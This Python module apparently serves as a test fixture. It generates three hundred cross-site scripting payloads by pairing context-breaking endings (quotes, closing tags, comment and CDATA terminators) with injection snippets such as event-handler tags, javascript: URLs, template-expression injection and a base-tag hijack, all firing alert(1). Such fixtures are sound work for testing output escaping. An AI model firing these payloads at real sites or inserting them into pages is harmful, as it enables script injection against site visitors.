"""Three hundred texts that a page would run or take for markup, if it did not escape them."""

from itertools import product

# What ends the place where a text stands: an attribute, an element, a comment, a text of a script.
ENDINGS = (
    *("", '"', "'", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "</template>"),
    *("]]>", "`", '\\"', "%22%3E"),
)
SCRIPTS = (
    "<img src=x data-xss onerror=alert(1)>",
    "<svg data-xss onload=alert(1)>",
    "<script data-xss>alert(1)</script>",
    " data-xss autofocus onfocus=alert(1) tabindex=1 x=",
    '<iframe data-xss srcdoc="<script>parent.alert(1)</script>">',
    "<a data-xss href=javascript:alert(1)>x</a>",
    "<details data-xss open ontoggle=alert(1)>",
    "<body data-xss onload=alert(1)>",
    "<input data-xss autofocus onfocus=alert(1)>",
    "<video data-xss><source onerror=alert(1)></video>",
    "<math><mtext><img src=x data-xss onerror=alert(1)>",
    "<form><button data-xss formaction=javascript:alert(1)>",
    "<base data-xss href=//example.org/><script src=x></script>",
    "javascript:alert(1)",
    ";alert(1)//",
    "-alert(1)-",
    "${alert(1)}",
    '{{constructor.constructor("alert(1)")()}}',
    "&lt;img src=x data-xss onerror=alert(1)&gt;",
    "\\u003cimg src=x data-xss onerror=alert(1)\\u003e",
)
PAYLOADS = [ending + script for ending, script in product(ENDINGS, SCRIPTS)]
